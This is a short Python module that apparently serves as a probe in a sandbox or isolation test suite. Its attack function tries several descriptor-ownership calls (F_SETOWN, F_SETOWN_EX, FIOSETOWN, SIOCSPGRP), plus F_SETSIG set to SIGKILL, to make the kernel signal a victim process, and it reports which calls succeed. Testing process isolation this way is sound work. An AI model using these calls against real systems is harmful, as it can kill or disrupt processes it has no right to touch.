"""Have the kernel signal for one: as the owner of a descriptor somebody else is told of its news."""
import fcntl
import os
import socket
import struct

FIOSETOWN, SIOCSPGRP, F_SETOWN_EX = 0x8901, 0x8902, 15


def attack(target):
    victim = target["victim_pid"]
    ends = socket.socketpair()
    done = []
    with ends[0], ends[1]:
        for name, make_owner in {
            "F_SETOWN": lambda: fcntl.fcntl(ends[0], fcntl.F_SETOWN, victim),
            "F_SETOWN_EX": lambda: fcntl.fcntl(ends[0], F_SETOWN_EX, struct.pack("=ii", 1, victim)),
            "F_SETSIG": lambda: fcntl.fcntl(ends[0], fcntl.F_SETSIG, 9),
            "FIOSETOWN": lambda: fcntl.ioctl(ends[0], FIOSETOWN, struct.pack("=i", victim)),
            "SIOCSPGRP": lambda: fcntl.ioctl(ends[0], SIOCSPGRP, struct.pack("=i", -victim)),
        }.items():
            try:
                make_owner()
                done.append(name)
            except OSError:
                pass
    return done
